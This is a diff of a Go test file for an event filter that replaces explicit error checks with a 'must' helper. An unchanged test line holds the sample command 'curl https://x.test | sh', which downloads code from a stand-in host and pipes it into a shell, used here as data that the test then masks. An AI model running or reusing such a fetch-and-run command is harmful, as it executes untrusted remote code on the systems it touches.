@@ -51,9 +51,7 @@ func TestAFilterSeesTheFieldsOfAnEventUnderTheirOwnNames(t *testing.T) {
 func TestAFilterReadsOnWhereAValueWasMasked(t *testing.T) {
 	t.Parallel()
 	c, err := OfEvent(`input.args.command == "" && custom.event == "decision"`)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	masked := strings.Replace(picked, `"command":"curl https://x.test | sh"`, `"command":{"masked":true}`, 1)
 	if holds, err := c.Holds([]byte(masked)); !holds || err != nil {
 		t.Errorf("got %v, %v", holds, err)
@@ -75,9 +73,7 @@ func TestWhatIsWrongWithAFilterIsNamed(t *testing.T) {
 		}
 	}
 	c, err := OfEvent(`bundles["policies"].revision == "a"`)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	if _, err := c.Holds([]byte(`{"decision_id":"0198"}`)); err == nil || err.Error() != `event "0198": no such key: policies` {
 		t.Errorf("an event without policies: %v", err)
 	}
